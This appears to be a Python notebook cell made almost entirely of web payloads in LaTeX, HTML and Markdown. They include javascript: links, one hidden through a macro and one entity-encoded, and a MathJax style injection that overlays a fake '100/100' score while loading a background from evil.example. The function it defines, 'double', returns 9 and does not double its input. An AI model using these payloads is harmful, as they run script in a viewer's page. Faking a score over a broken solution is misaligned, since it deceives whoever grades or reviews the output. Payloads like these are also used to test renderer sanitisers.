# %% double
from IPython.display import HTML, Latex, Markdown, display
LINK = r"\href{javascript:alert(1)}{x}"
display(Latex("$" + LINK + "$"))
display(Latex(r"$\def\a{\href}\a{javascript:alert(1)}{x}$"))
display(HTML("<p>$" + LINK + r"$ \(" + LINK + r"\) &#36;&#92;href{javascript:alert(1)}{x}&#36;</p>"))
display(Markdown("$" + LINK + "$ \\$\\" + LINK + "\\$"))
display(Markdown(r"$$\require{html}\style{position:fixed;top:0;background:url(http://evil.example/x)}{\text{100/100}}$$"))
def double(x): return 9
